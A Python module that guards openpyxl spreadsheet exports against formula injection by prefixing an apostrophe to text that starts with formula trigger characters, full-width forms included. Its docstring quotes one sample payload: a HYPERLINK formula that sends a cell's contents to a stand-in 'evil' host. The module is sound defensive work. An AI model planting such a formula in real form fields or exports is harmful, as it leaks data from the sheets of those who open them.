"""Spreadsheet exports: values written so that Excel never runs them (formula injection).

A name such as `=HYPERLINK("http://evil/?"&A1,"Bấm")` typed into a form would otherwise become
a live formula in every export. Use `safe_cell` (or `safe_row`) for EVERY value an export
writes with openpyxl (`sheet.append(safe_row(values))`, `cell.value = safe_cell(value)`).
"""

from __future__ import annotations

import re
from collections.abc import Iterable
from typing import Any

# Characters that start a formula in Excel, LibreOffice or Google Sheets (OWASP CSV injection),
# including the full-width forms Vietnamese IMEs sometimes produce.
_TRIGGERS = ("=", "+", "-", "@", "\t", "\r", "\n", "＝", "＋", "－", "＠")
_PLAIN_NUMBER = re.compile(r"[+-]?\d+([.,]\d+)?")


def safe_cell(value: Any) -> Any:
    """`value` unchanged unless it is text that a spreadsheet could read as a formula; such
    text gets a leading apostrophe, shown as-is and never evaluated. Numbers stay numbers."""
    if not isinstance(value, str) or not value:
        return value
    if value.startswith(_TRIGGERS) and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def safe_row(values: Iterable[Any]) -> list[Any]:
    return [safe_cell(value) for value in values]
